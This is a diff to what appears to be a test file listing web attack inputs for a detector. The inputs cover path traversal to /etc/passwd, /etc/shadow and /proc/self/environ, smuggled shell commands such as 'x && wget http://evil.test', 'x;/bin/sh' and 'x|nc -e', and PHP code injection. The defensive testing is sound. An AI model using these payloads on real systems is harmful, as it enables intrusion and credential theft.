@@ -101,9 +101,7 @@ ATTACKS = {
         arg("/etc/passwd"),
         arg("/ETC/shadow"),
         arg("file:///proc/self/environ"),
-        arg("c:\\windows\\win.ini"),
         path("/x/%2fetc%2fpasswd"),
-        path("/boot.ini"),
     ],
     "traversal-nul-byte": [
         arg("x.php\0.jpg"),
@@ -119,7 +117,7 @@ ATTACKS = {
         arg("x && wget http://evil.test"),
         arg("x\n/usr/bin/python3 -c 1"),
         arg("x;/bin/sh"),
-        agent("x; ping 192.0.2.1"),
+        agent("x; ping -c 1 192.0.2.1"),
         cookie("x|nc -e"),
     ],
     "rce-shellshock": [
@@ -140,8 +138,6 @@ ATTACKS = {
     "injection-php-code": [
         arg("<?php system('x'); ?>"),
         arg("<?= 1 ?>"),
-        arg("php://input"),
-        arg("PHP://filter/convert.base64-encode/resource=index"),
         path("/?-d+allow_url_include%3d1"),
         path("/?auto_prepend_file%3dx"),
     ],
